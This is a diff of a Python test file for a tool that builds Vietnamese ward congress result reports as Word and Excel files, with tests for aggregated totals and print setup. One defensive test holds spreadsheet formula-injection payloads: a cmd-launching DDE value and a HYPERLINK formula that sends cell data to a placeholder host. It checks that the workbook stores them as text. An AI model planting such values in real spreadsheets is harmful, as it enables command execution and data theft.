@@ -21,10 +21,18 @@ from docx.shared import Mm, Pt
 from docx.table import Table
 from openpyxl import load_workbook
 
-from congress.adapters.aggregate_xlsx import STAGE_SHEET, percent_value, write_aggregate_xlsx
+from congress.adapters.aggregate_xlsx import (
+    RESULTS_SHEET,
+    SHEET,
+    STAGE_SHEET,
+    percent_value,
+    write_aggregate_xlsx,
+)
 from congress.adapters.docx_lint import lint_template
 from congress.adapters.docx_render import CompiledTemplate, environment
 from congress.core.district import (
+    Chosen,
+    CongressResults,
     Deadline,
     DistrictReport,
     FindingLine,
@@ -90,6 +98,18 @@ def ward(
     return WardSummary.model_validate(data)
 
 
+# Ô Chợ Dừa's count reconciles; Cát Linh has held its congress but its count does not reconcile
+# (a tally, no results): it is named in the results section, counted in none of its figures.
+O_CHO_DUA_RESULTS = CongressResults(
+    convened=150,
+    present=142,
+    committee=Chosen(planned=55, chosen=53, vacancies=2),
+    official=Chosen(planned=6, chosen=6),
+    alternate=Chosen(planned=1, chosen=1),
+    standing=Chosen(planned=5, chosen=5),
+)
+
+
 def district() -> DistrictReport:
     wards = [
         ward(
@@ -99,6 +119,7 @@ def district() -> DistrictReport:
             (55, 53, 19, 18, 22, 1, 2),
             pilot=True,
             tally={"convened": 150, "present": 142},
+            results=O_CHO_DUA_RESULTS,
         ),
         ward(
             "cat-linh",
@@ -322,7 +343,14 @@ def test_aggregate_report_table_and_totals(report: DistrictReport) -> None:
     text = text_of(doc)
     assert "4/5 phường đã có đề án nhân sự" in text and "chưa có số liệu: Láng Hạ" in text
     assert "Tổng số Ủy viên dự kiến 195 vị; số nhân sự được giới thiệu 191 vị; tái cử 93/195 vị, chiếm 47,69% số lượng Ủy viên dự kiến; nữ 59/191 vị, chiếm 30,89%" in text  # fmt: skip
-    assert "Số phường đã tổ chức Đại hội: 2/5; tổng số đại biểu được triệu tập: 270; có mặt: 253/270 vị, chiếm 93,70% số đại biểu được triệu tập." in text  # fmt: skip
+    # the results: the congresses held whose count reconciles, before the proposals
+    assert "Đến ngày 25/01/2024, 2/5 phường đã tổ chức Đại hội." in text
+    assert "của 1/2 phường đã tổ chức Đại hội; 1 phường có số liệu kiểm phiếu chưa khớp, chưa tính vào kết quả: Phường Cát Linh." in text  # fmt: skip
+    assert "Tổng số đại biểu được triệu tập: 150 vị; có mặt: 142 vị, chiếm 94,67% số đại biểu được triệu tập." in text  # fmt: skip
+    assert "Ủy ban MTTQ Việt Nam khóa mới của 1 phường: số lượng 55 vị; Đại hội hiệp thương cử 53 vị, khuyết 02 vị." in text  # fmt: skip
+    assert (
+        text.index("I. KẾT QUẢ ĐẠI HỘI") < text.index("II. ĐỀ ÁN NHÂN SỰ") < text.index("(DỰ KIẾN)")
+    )
 
 
 # -- the workbook -----------------------------------------------------------------------------
@@ -351,9 +379,10 @@ def test_workbook_rows_totals_and_percentages(report: DistrictReport, tmp_path: 
     assert path.exists() and [p.name for p in path.parent.iterdir()] == ["tong-hop.xlsx"]
     book = load_workbook(path)
     sheet = book.worksheets[0]
+    assert sheet.title == SHEET and "(DỰ KIẾN)" in str(sheet["A1"].value)
     rows = [list(r) for r in sheet.iter_rows(min_row=4, values_only=True)]
     header = rows[0]
-    assert header[:6] == ["STT", "Phường", "Tổ công tác", "Bước hiện tại", "Số lượng Ủy viên dự kiến", "Số nhân sự giới thiệu"]  # fmt: skip
+    assert header[:6] == ["STT", "Đơn vị", "Tổ công tác", "Bước hiện tại", "Số lượng Ủy viên dự kiến", "Số nhân sự giới thiệu"]  # fmt: skip
     assert header[6:8] == ["Tái cử", "Tỷ lệ tái cử (%)"]
     assert header[10:12] == ["Ngoài Đảng", "Tỷ lệ ngoài Đảng (%)"]
     wards, total = rows[1:6], rows[6]
@@ -388,6 +417,145 @@ def test_workbook_rows_totals_and_percentages(report: DistrictReport, tmp_path: 
     assert [r[2] for r in by_stage] == [s["id"] for s in STAGES]
     assert sum(r[3] for r in by_stage) == len(report.wards) == stage_total[3]
     assert {r[2]: r[3] for r in by_stage} == report.totals.by_stage
+
+
+# -- the results of the congresses held -------------------------------------------------------
+
+
+def held_district() -> DistrictReport:
+    """Three congresses held: Ô Chợ Dừa and Khâm Thiên counted (Khâm Thiên's first meeting not
+    held yet), Cát Linh's count does not reconcile."""
+    base = district()
+    kham_thien = CongressResults(
+        convened=120,
+        present=117,
+        committee=Chosen(planned=40, chosen=39, vacancies=1),
+        official=Chosen(planned=4, chosen=4),
+        alternate=Chosen(planned=1, chosen=1),
+    )
+    wards = [
+        w.model_copy(update={"tally": {"convened": 120, "present": 117}, "results": kham_thien})
+        if w.slug == "kham-thien"
+        else w
+        for w in base.wards
+    ]
+    totals = aggregate(wards, [s["id"] for s in STAGES])
+    return base.model_copy(update={"wards": wards, "totals": totals})
+
+
+COUNTED = ("Ô Chợ Dừa", "Khâm Thiên")
+RESULT_COLUMNS = ("planned", "chosen", "vacancies", "official", "alternate", "standing")
+
+
+def test_results_section_counts_only_reconciled_congresses() -> None:
+    doc, ctx = render("bao_cao_tong_hop", held_district())
+    rows = rows_of(table_with(doc, "Đã hiệp thương cử"))
+    header, wards, total = rows[0], rows[1:-1], rows[-1]
+    assert header == ["STT", "Đơn vị", "Số lượng Ủy viên", "Đã hiệp thương cử", "Khuyết", "Đại biểu chính thức", "Đại biểu dự khuyết", "Ban Thường trực"]  # fmt: skip
+    assert [row[1] for row in wards] == list(COUNTED)  # Cát Linh: held, not reconciled
+    assert wards[0][2:] == ["55", "53", "2", "6", "1", "5"]
+    assert wards[1][2:] == ["40", "39", "1", "4", "1", "—"]  # no first meeting yet
+    assert total[1] == "Tổng cộng" and total[2:] == ["95", "92", "3", "10", "2", "5"]
+    for column in range(2, 7):
+        assert int(total[column]) == sum(int(row[column]) for row in wards), header[column]
+    assert int(total[3]) + int(total[4]) == int(total[2])  # chosen + vacancies = seats
+
+    text = text_of(doc)
+    assert "Đến ngày 25/01/2024, 3/5 phường đã tổ chức Đại hội." in text
+    assert "của 2/3 phường đã tổ chức Đại hội; 1 phường có số liệu kiểm phiếu chưa khớp, chưa tính vào kết quả: Phường Cát Linh." in text  # fmt: skip
+    assert "Tổng số đại biểu được triệu tập: 270 vị; có mặt: 259 vị, chiếm 95,93% số đại biểu được triệu tập." in text  # fmt: skip
+    assert "Ủy ban MTTQ Việt Nam khóa mới của 2 phường: số lượng 95 vị; Đại hội hiệp thương cử 92 vị, khuyết 03 vị." in text  # fmt: skip
+    assert "Đơn vị còn khuyết Ủy viên: Phường Ô Chợ Dừa khuyết 02 vị; Phường Khâm Thiên khuyết 01 vị." in text  # fmt: skip
+    assert ": 10 đại biểu chính thức, 2 đại biểu dự khuyết." in text
+    assert "Hội nghị lần thứ nhất Ủy ban khóa mới (1/2 phường đã họp) hiệp thương cử 5 vị Ủy viên Ban Thường trực." in text  # fmt: skip
+    assert ctx["aggregate"]["results"]["uncounted"] == ["Cát Linh"]
+
+
+def test_results_section_names_the_units_by_their_type() -> None:
+    report = held_district()
+    kinds = {w.name: "xã" if w.slug == "kham-thien" else "phường" for w in report.wards}
+    ctx = district_context("bao_cao_tong_hop", report, term=TERM, place="Đống Đa", draft=False, ward_kinds=kinds)  # fmt: skip
+    results = ctx["aggregate"]["results"]
+    assert results["lines"][0] == "Đến ngày 25/01/2024, 3/5 xã, phường đã tổ chức Đại hội."
+    assert "Xã Khâm Thiên khuyết 01 vị" in results["summary"][2]
+
+
+def test_results_section_when_no_congress_is_held() -> None:
+    report = district()
+    wards = [w.model_copy(update={"tally": {}, "results": None}) for w in report.wards]
+    report = report.model_copy(update={"wards": wards})
+    doc, ctx = render("bao_cao_tong_hop", report)
+    text = text_of(doc)
+    assert "Đến ngày 25/01/2024, 0/5 phường đã tổ chức Đại hội." in text
+    assert "Đã hiệp thương cử" not in text and "khuyết 0" not in text
+    assert ctx["aggregate"]["results"]["rows"] == []
+
+
+def test_workbook_results_sheet_and_print_setup(tmp_path: Path) -> None:
+    report = held_district()
+    book = load_workbook(write_aggregate_xlsx(tmp_path / "tong-hop.xlsx", report))
+    assert book.sheetnames == [SHEET, RESULTS_SHEET, STAGE_SHEET]
+    sheet = book[RESULTS_SHEET]
+    assert "ĐÃ TỔ CHỨC ĐẠI HỘI" in str(sheet["A1"].value)
+    rows = [list(r) for r in sheet.iter_rows(min_row=4, values_only=True)]
+    header, wards, total = rows[0], rows[1:3], rows[3]
+    assert header == ["STT", "Đơn vị", "Tổ công tác", "Đại biểu được triệu tập", "Đại biểu có mặt", "Số lượng Ủy viên", "Ủy viên đã hiệp thương cử", "Số khuyết", "Đại biểu chính thức", "Đại biểu dự khuyết", "Ủy viên Ban Thường trực"]  # fmt: skip
+    assert [r[1] for r in wards] == list(COUNTED)
+    assert wards[0][3:] == [150, 142, 55, 53, 2, 6, 1, 5]
+    assert wards[1][3:] == [120, 117, 40, 39, 1, 4, 1, None]  # no first meeting: empty
+    assert total[1] == "Tổng cộng"
+    for column in range(3, 11):
+        assert total[column] == sum(r[column] or 0 for r in wards), header[column]
+    assert total[6] + total[7] == total[5]
+    note = next(r[0] for r in rows[4:] if r[0])
+    assert "3/5 phường đã tổ chức Đại hội" in note and "chưa tính vào kết quả: Cát Linh" in note
+    assert not any(r[1] == "Cát Linh" for r in rows)
+
+    for each in book.worksheets:
+        setup = each.page_setup
+        assert (int(setup.paperSize or 0), setup.orientation) == (9, "landscape"), (
+            each.title
+        )  # 9: A4
+        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0), each.title
+        assert each.sheet_properties.pageSetUpPr is not None
+        assert each.sheet_properties.pageSetUpPr.fitToPage, each.title
+        assert each.print_title_rows in ("$4:$4", "$3:$3"), each.title
+    assert book[SHEET].print_title_rows == book[RESULTS_SHEET].print_title_rows == "$4:$4"
+
+
+INJECTED = {
+    "name": '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
+    "group": "+1+cmd|' /C calc'!A0",
+    "stage_label": "-2+3",
+    "slug": "@SUM(1,2)",
+}
+
+
+def test_workbook_writes_user_text_as_text(tmp_path: Path) -> None:
+    """OWASP formula injection: a cell a user's text fills is never a formula, whatever it
+    starts with («=», «+», «-», «@»), and reads back exactly as typed."""
+    base = held_district()
+    first = base.wards[0].model_copy(update=INJECTED)
+    wards = [first, *base.wards[1:]]
+    report = base.model_copy(update={"wards": wards, "unit": "=1+1", "stages": [{**STAGES[0], "label": "@evil"}, *STAGES[1:]]})  # fmt: skip
+    path = write_aggregate_xlsx(tmp_path / "tong-hop.xlsx", report)
+    book = load_workbook(path)
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert {INJECTED["name"], INJECTED["group"], INJECTED["stage_label"]} <= values
+    for cell in cells:
+        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
+            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
+    # the counted ward's row on the results sheet, by its name
+    results = book[RESULTS_SHEET]
+    assert results["B5"].value == INJECTED["name"] and results["B5"].data_type == "s"
+    # and in the XML itself: no <f> element anywhere
+    import zipfile
+
+    with zipfile.ZipFile(path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)  # fmt: skip
 
 
 def test_workbook_refuses_a_file_open_in_excel(report: DistrictReport, tmp_path: Path) -> None:
